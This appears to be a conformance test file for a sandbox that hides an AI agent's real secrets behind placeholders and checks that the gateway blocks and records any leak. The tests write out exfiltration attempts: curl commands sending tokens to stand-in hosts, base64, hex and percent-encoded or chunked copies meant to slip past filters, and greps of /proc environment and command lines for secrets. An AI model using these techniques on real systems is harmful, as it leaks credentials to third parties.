/** No real secret in a cage, and none on its way elsewhere: conformance cases S01 to S07. */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { join } from "node:path";
import { docker } from "../../tools/engine_state.ts";
import { PLACEHOLDER_PATTERN } from "../../src/policy/protocol.ts";
import { run as runHere } from "../../src/engine/process.ts";
import { type Case, testCases } from "./support/internet/cases.ts";
import { assertSilent } from "./support/internet/evidence.ts";
import { requestsOf, textOf } from "../../src/verify/internet/evidence.ts";
import type { Probe } from "../../src/verify/internet/probe/types.ts";
import { run } from "../../src/verify/internet/probes.ts";

const REAL = "real-value-of-the-test-token-8c1f";
const BODY_REAL = "real-value-of-the-body-token/+=77ab";

const CONFIG = `
[secrets.TEST_TOKEN]
from = "env"
to = ["inject.test"]
[secrets.BODY_TOKEN]
from = "env"
to = ["inject.test"]
body = true
[inspect]
hosts = ["big.test"]
`;

/** One shell line as the agent, in which `$TEST_TOKEN` is what the agent has. */
function sh(id: string, line: string): Probe {
  return run(id, ["bash", "-c", line]);
}

function fetch(id: string, args: string): Probe {
  return sh(id, `curl -sS -m 10 ${args}`);
}

const cases: Case[] = [
  ["S01 the real value is nowhere", async ({ cage }) => {
    const session = await cage.session();
    const env = await session.probe([sh("placeholder", "printf %s $TEST_TOKEN")]);
    const placeholder = env.get("placeholder").data;
    assert.match(placeholder, new RegExp(`^${PLACEHOLDER_PATTERN.source}$`));
    const inside = (text: string) =>
      sh(
        text,
        `t=${text.slice(0, 8)}; t+=${text.slice(8)}; ` +
          // In two halves, so that no argument of this very search is found.
          'grep -slF -- "$t" /proc/[0-9]*/environ /proc/[0-9]*/cmdline; ' +
          'grep -rslF --devices=skip --exclude-dir=proc --exclude-dir=sys -- "$t" / ; true',
      );
    const found = await session.probe([REAL, BODY_REAL, placeholder].map(inside), "root");
    assert.equal(found.get(REAL).data, "");
    assert.equal(found.get(BODY_REAL).data, "");
    assert.match(found.get(placeholder).data, /^\/proc\/1\/environ$/m);
    const { agent, gateway } = session;
    const images = await docker(["inspect", "--format", "{{.Image}}", agent, gateway]);
    const outside = [
      await docker(["inspect", agent, gateway]),
      await docker(["network", "inspect", ...await networksOf(agent, gateway)]),
      ...await Promise.all(
        images.split("\n").map((image) => docker(["history", "--no-trunc", image])),
      ),
      (await runHere("docker", ["logs", agent], { timeoutMs: 10_000 })).stdout,
      await readGatewayProcess(gateway),
      await readArguments(),
      await readFiles(cage.state),
    ].join("\n");
    for (const secret of [REAL, BODY_REAL]) assert.ok(!outside.includes(secret));
    assert.ok(outside.includes(placeholder));
  }],
  ["S02 a placeholder becomes the value toward its host", async ({ internet, cage }) => {
    const url = "https://inject.test";
    await cage.probe([
      fetch("bearer", `-H "authorization: Bearer $TEST_TOKEN" ${url}/bearer`),
      fetch("h1", `--http1.1 -H "authorization: Bearer $TEST_TOKEN" ${url}/h1`),
      fetch("own header", `-H "x-api-key: $TEST_TOKEN" ${url}/own`),
      fetch("basic", `-u "user:$TEST_TOKEN" ${url}/basic`),
      fetch("query", `"${url}/query?key=$TEST_TOKEN&more=1"`),
      fetch("body", `--json "{\\"key\\":\\"$BODY_TOKEN\\"}" ${url}/body`),
      fetch("form", `-d "key=$BODY_TOKEN" ${url}/form`),
      fetch("no body", `-d "key=$TEST_TOKEN" ${url}/nobody`),
      sh("direct", DIRECT),
    ]);
    const events = await internet.events();
    assertSilent(events, internet, { names: ["inject.test"], echo: true });
    const seen = new Map(
      requestsOf(events).map((request) => [request.target.split("?")[0], request]),
    );
    const header = (path: string, name: string) =>
      seen.get(path)?.headers.find(([key]) => key.toLowerCase() === name)?.[1];
    for (const path of ["/bearer", "/h1", "/direct"]) {
      assert.equal(header(path, "authorization"), `Bearer ${REAL}`, path);
    }
    assert.equal(header("/own", "x-api-key"), REAL);
    const basic = header("/basic", "authorization")?.replace(/^Basic /, "") ?? "";
    assert.equal(Buffer.from(basic, "base64").toString(), `user:${REAL}`);
    assert.equal(seen.get("/query")?.target, `/query?key=${REAL}&more=1`);
    const bodyOf = (path: string) => {
      const request = seen.get(path)?.request;
      const body = events.find((event) => event.kind === "body" && event.request === request);
      return body?.kind === "body" ? body.text : undefined;
    };
    assert.equal(bodyOf("/body"), JSON.stringify({ key: BODY_REAL }));
    assert.equal(bodyOf("/form"), `key=${encodeURIComponent(BODY_REAL)}`);
    // Not asked for in bodies: it stays what it is, and that is worth a look.
    assert.match(bodyOf("/nobody") ?? "", PLACEHOLDER);
    const flags = (await cage.audit()).filter(({ decision }) => decision === "flag");
    assert.deepEqual(flags.map(({ host, reason }) => [host, reason]), [
      ["inject.test", "secret-foreign"],
    ]);
  }],
  ["S02 toward any other host it is stopped and on record", async ({ internet, cage }) => {
    const header = '-H "authorization: Bearer $TEST_TOKEN"';
    const outcomes = await cage.probe([
      fetch("opened", `${header} https://big.test/`),
      fetch("plain", `${header} http://allowed.test/`),
      fetch("plain to its own host", `${header} http://inject.test/`),
      fetch("basic", '-u "user:$TEST_TOKEN" http://allowed.test/'),
      fetch("query", '"https://big.test/?key=$TEST_TOKEN"'),
      fetch("path", '"https://big.test/$TEST_TOKEN/x"'),
      fetch("body", '-d "key=$TEST_TOKEN" https://big.test/body'),
    ]);
    const events = await internet.events();
    for (const { id, data } of outcomes.all) assert.match(data, /"reason":"secret-foreign"/, id);
    assert.doesNotMatch(textOf(events), PLACEHOLDER);
    assert.ok(!textOf(events).includes(REAL));
    const audit = (await cage.audit())
      .filter(({ reason, decision }) => reason === "secret-foreign" && decision === "deny");
    assert.equal(audit.length, outcomes.all.length, JSON.stringify(audit));
  }],
  ["S03 and S05 a value that comes back is a placeholder again", async ({ internet, cage }) => {
    const forms = [
      ...["", "chunked", "split", "header", "sse", "status/404"],
      ...["gzip", "br", "deflate", "zstd"].map((encoding) => `encoded/${encoding}`),
    ];
    const outcomes = await cage.probe([
      ...["", "--http1.1"].flatMap((version) =>
        forms.map((form) =>
          fetch(
            `${form} ${version}`,
            `${version} -i --suppress-connect-headers --compressed -u "user:$TEST_TOKEN" ` +
              `-H "x-key: $TEST_TOKEN" -H "authorization: Bearer $TEST_TOKEN" ` +
              `https://inject.test/${form}`,
          )
        )
      ),
      fetch("raw", '-d "$BODY_TOKEN and $BODY_TOKEN" https://inject.test/raw'),
      sh("websocket", `node -e '${WEBSOCKET}'`),
      sh("placeholders", "echo $TEST_TOKEN $BODY_TOKEN"),
    ]);
    const [test, body] = outcomes.get("placeholders").data.trim().split(" ") as [string, string];
    for (const { id, data, code } of outcomes.all) {
      assert.equal(code, 0, `${id}: ${JSON.stringify(outcomes.get(id))}`);
      for (const form of spellings(REAL)) assert.ok(!data.includes(form), `${id}: ${data}`);
      assert.ok(data.includes(id === "raw" ? body : test), `${id}: ${data}`);
    }
    // The control: the host did say it.
    assert.ok(textOf(await internet.events()).includes(REAL));
  }],
  ["S04 a real value in any spelling does not leave", async ({ internet, cage }) => {
    const send = (name: string, value: string): Probe[] => [
      run(`${name} in a header`, [
        "curl",
        "-sS",
        "-m",
        "10",
        "-H",
        `x: a${value}b`,
        "https://big.test/h",
      ]),
      run(`${name} in a query`, ["curl", "-sS", "-m", "10", `https://big.test/q?x=a${value}b`]),
      run(`${name} in a body`, [
        "curl",
        "-sS",
        "-m",
        "10",
        "-d",
        `a${value}b`,
        "https://big.test/b",
      ]),
      run(`${name} in plain HTTP`, [
        "curl",
        "-sS",
        "-m",
        "10",
        "-d",
        `a${value}b`,
        "http://allowed.test/",
      ]),
      {
        id: `${name} in pieces`,
        kind: "raw",
        host: "@gateway",
        port: 80,
        send: pieces(`a${value}b`),
      },
    ];
    const random = `unreal-${crypto.randomUUID()}`;
    const outcomes = await cage.probe(
      spellings(REAL).flatMap((value, index) => send(`spelling ${index}`, value)),
    );
    const events = await internet.events();
    for (const { id, data } of outcomes.all) {
      assert.match(data, /"reason":"secret-leak"/, `${id}: ${data}`);
    }
    for (const form of spellings(REAL)) assert.ok(!textOf(events).includes(form), form);
    const controls = await cage.probe(
      spellings(random).flatMap((value, index) => send(`spelling ${index}`, value)),
    );
    for (const { id, data } of controls.all) assert.match(data, /"request":\d/, `${id}: ${data}`);
  }],
  ["S06 tokens of well-known services go only to them", async ({ internet, cage }) => {
    const own: [string, string][] = [
      [`ghp_${"a1B2c3".repeat(6)}`, "api.github.com"],
      [`gho_${"a1B2c3".repeat(6)}`, "api.github.com"],
      ["AKIAABCDEFGHIJKLMNOP", "s3.amazonaws.com"],
      [`sk-ant-api03-${"aB3-_x".repeat(15)}AA`, "api.anthropic.com"],
      [`AIza${"Sy0123456789abcdefghijklmnopqrstuvw".slice(0, 35)}`, "www.googleapis.com"],
      [`glpat-${"a1B2c3d4E5f6g7h8i9J0"}`, "gitlab.com"],
    ];
    const header = (id: string, token: string, host: string) =>
      run(id, [
        "curl",
        "-sS",
        "-m",
        "10",
        "-H",
        `authorization: Bearer ${token}`,
        `http://${host}/`,
      ]);
    const foreign = await cage.probe(own.map(([token]) => header(token, token, "allowed.test")));
    assertSilent(await internet.events(), internet, { names: ["allowed.test"] });
    for (const { id, data } of foreign.all) assert.match(data, /"reason":"secret-/, id);
    for (const [, host] of own) internet.script(host, { answers: [[internet.addresses.echo]] });
    const right = await cage.probe(own.map(([token, host]) => header(token, token, host)));
    for (const { id, data } of right.all) assert.match(data, /"request":\d/, `${id}: ${data}`);
  }],
  ["S07 a secret that could not be kept is refused before anything starts", async ({ cage }) => {
    const network = (await Deno.readTextFile(join(cage.state, "config.toml"))).split(
      "[network]",
    )[1]!;
    const check = async (config: string) => {
      await Deno.writeTextFile(
        join(cage.state, "config.toml"),
        `version = 1\nhome = "project"\n${config}\n[network]${network}`,
      );
      return await cage.sandcage(["config", "check"]);
    };
    const to = (hosts: string) => `[secrets.MY_TOKEN]\nfrom = "env"\nto = [${hosts}]\n`;
    const wrong: [string, RegExp][] = [
      ['[secrets.MY_TOKEN]\nfrom = "env"\n', /MY_TOKEN(.|\n)*\bto\b/],
      [to('"splice.test"'), /MY_TOKEN(.|\n)*passthrough|passthrough(.|\n)*MY_TOKEN/],
      ['[secrets.AWS_SECRET_ACCESS_KEY]\nfrom = "env"\nto = ["s3.amazonaws.com"]\n', /sign/i],
    ];
    for (const [config, words] of wrong) {
      const { code, stderr } = await check(config);
      assert.equal(code, 3, `${config}\n${stderr}`);
      assert.match(stderr, words);
    }
    assert.equal((await check(to('"inject.test"'))).code, 0);
    await cage.configure(CONFIG);
  }],
];

const PLACEHOLDER = new RegExp(PLACEHOLDER_PATTERN.source);

/** curl without a proxy, as a client that knows none. */
const DIRECT = "unset https_proxy HTTPS_PROXY http_proxy HTTP_PROXY; " +
  'curl -sS -m 10 -H "authorization: Bearer $TEST_TOKEN" https://inject.test/direct';

/** Asks for the value in a message, over the platform's own client. */
const WEBSOCKET = `
const socket = new WebSocket("wss://inject.test/", {
  headers: { authorization: "Bearer " + process.env.TEST_TOKEN },
});
socket.onopen = () => socket.send("auth");
socket.onmessage = ({ data }) => { console.log(data); socket.close(); };
socket.onerror = ({ error }) => { console.log(error); process.exit(1); };
`;

/** The value as it is, in base64 from each of three offsets, in hex, and percent-encoded. */
function spellings(value: string): string[] {
  const base64 = (offset: number) => {
    const text = Buffer.from("x".repeat(offset) + value).toString("base64url");
    // Only what depends on nothing but the value: six bits a character.
    const [start, end] = [offset, offset + value.length].map((bytes) => bytes * 8 / 6);
    return text.slice(Math.ceil(start!), Math.floor(end!));
  };
  const hex = Buffer.from(value).toString("hex");
  const encoded = hex.replace(/../g, (pair) => `%${pair}`);
  return [value, base64(0), base64(1), base64(2), hex, hex.toUpperCase(), encoded];
}

/** A chunked request, one character at a time. */
function pieces(body: string): string[] {
  const head = "POST /pieces HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n" +
    "Transfer-Encoding: chunked\r\n\r\n";
  const chunks = [...body].map((character) => `1\r\n${character}\r\n`);
  return [`${head}${chunks.join("")}0\r\n\r\n`];
}

async function networksOf(...containers: string[]): Promise<string[]> {
  const format = "{{range $name, $_ := .NetworkSettings.Networks}}{{$name}} {{end}}";
  const names = await docker(["inspect", "--format", format, ...containers]);
  return [...new Set(names.split(/\s+/).filter(Boolean))];
}

/** Environment, arguments and temporary files of a gateway, seen by this machine's root. */
async function readGatewayProcess(gateway: string): Promise<string> {
  const pid = await docker(["inspect", "--format", "{{.State.Pid}}", gateway]);
  const read = ["environ", "cmdline"].map((file) => Deno.readTextFile(`/proc/${pid}/${file}`));
  return [...await Promise.all(read), await readFiles(`/proc/${pid}/root/tmp`)].join("\n");
}

/** Arguments of every process of this machine. */
async function readArguments(): Promise<string> {
  const texts: string[] = [];
  for await (const { name } of Deno.readDir("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    texts.push(await Deno.readTextFile(`/proc/${name}/cmdline`).catch(() => ""));
  }
  return texts.join("\n");
}

async function readFiles(path: string): Promise<string> {
  const found = await runHere("grep", ["-rh", "", path], { timeoutMs: 30_000 });
  return found.stdout;
}

testCases("secrets", {
  network: 'allow = ["allowed.test", "big.test", "inject.test", "splice.test", "api.github.com", ' +
    '"s3.amazonaws.com", "api.anthropic.com", "www.googleapis.com", "gitlab.com"]\n' +
    'passthrough = ["splice.test"]\n',
  config: CONFIG,
  env: { TEST_TOKEN: REAL, BODY_TOKEN: BODY_REAL },
  cases,
});
